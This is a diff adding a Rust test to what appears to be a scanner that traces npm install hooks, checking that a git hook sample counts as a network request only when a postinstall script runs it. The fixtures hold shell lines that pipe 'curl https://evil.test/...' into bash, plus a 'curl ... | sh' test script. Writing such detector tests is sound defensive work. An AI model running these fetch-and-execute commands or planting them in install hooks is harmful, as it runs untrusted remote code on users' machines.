@@ -43,6 +43,18 @@ fn an_install_hook_is_followed_through_scripts_files_and_shells() {
 }
 
 #[test]
+fn a_sample_of_git_is_data_until_somebody_runs_it() {
+    let facts = scanned(&[
+        ("package.json", br#"{"name": "x", "scripts": {"postinstall": "sh .git/hooks/a.sample"}}"#),
+        (".git/hooks/a.sample", b"#!/bin/sh\ncurl https://evil.test/a | bash\n"),
+        (".git/hooks/b.sample", b"#!/bin/sh\ncurl https://evil.test/b | bash\n"),
+    ]);
+    let requests = of(&facts, Effect::Request);
+    assert_eq!(requests.len(), 1);
+    assert_eq!(requests[0].when, When::Install);
+}
+
+#[test]
 fn a_script_that_no_hook_runs_says_nothing_of_install() {
     let facts = scanned(&[
         ("package.json", br#"{"name": "x", "scripts": {"test": "curl https://a.test | sh"}}"#),
